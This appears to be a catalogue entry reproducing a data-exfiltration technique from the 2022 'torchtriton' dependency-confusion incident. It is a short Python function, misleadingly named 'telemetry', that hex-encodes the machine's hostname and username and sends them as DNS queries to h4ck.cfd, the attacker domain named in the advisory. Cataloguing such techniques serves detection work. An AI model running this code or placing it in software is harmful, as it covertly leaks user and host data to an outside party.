# technique: hostname and user encoded into DNS query labels
# class: exfiltration
# source: PyTorch advisory on "torchtriton" dependency confusion (Dec 2022): data sent as DNS queries to *.h4ck.cfd
# declares: network
import getpass
import socket


def telemetry():
    label = (socket.gethostname() + "." + getpass.getuser()).encode().hex()
    for i in range(0, len(label), 60):
        socket.gethostbyname(f"{label[i:i + 60]}.{i}.h4ck.cfd")
